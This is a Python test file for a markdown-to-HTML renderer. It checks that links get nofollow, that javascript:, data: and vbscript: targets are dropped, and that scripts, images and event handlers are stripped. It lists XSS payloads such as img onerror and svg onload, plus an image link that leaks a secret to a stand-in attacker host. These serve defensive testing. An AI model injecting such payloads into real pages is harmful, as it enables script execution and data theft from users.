import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from visavis.dialogue.html import clean_html, markdown, render_html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("A *red* **ball**.", "<p>A <em>red</em> <strong>ball</strong>.</p>"),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("`x<y`", "<p><code>x&lt;y</code></p>"),
        ("", ""),
    ],
)
def test_markdown(text: str, html: str) -> None:
    assert render_html(text) == html


@given(st.from_regex(r"[A-Za-z0-9 ,;:.?!'()\n-]*", fullmatch=True))
def test_a_plain_line_is_what_markdown_makes_of_it(text: str) -> None:
    assert render_html(text) == clean_html(markdown().render(text))


def test_links_are_nofollow_and_only_to_the_web() -> None:
    assert render_html("[a](https://example.org)") == (
        '<p><a href="https://example.org" rel="noopener noreferrer nofollow">a</a></p>'
    )
    for target in ("javascript:alert(1)", "data:text/html,x", "vbscript:x", "JaVaScRiPt:x"):
        assert "href" not in render_html(f"[a]({target})")


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>",
        "![leak](http://evil.example/?q=secret)",
        "<script>alert(1)</script>",
        "<iframe src=x></iframe>",
        "<style>*{}</style>",
        "[a](https://e.org 'x\" onmouseover=\"alert(1)')",
        "```html\n<script>\n```",
        "<a href='x' style='y'>z</a>",
        "<svg/onload=alert(1)>",
    ],
)
def test_nothing_active_and_no_picture_gets_through(text: str) -> None:
    assert not re.search(r"<(img|script|iframe|style|svg)|<[^>]*\s(style|on\w+)=\"", render_html(text))


@given(st.text())
def test_any_text_gives_only_known_tags(text: str) -> None:
    html = render_html(text)
    assert "<img" not in html and "<script" not in html
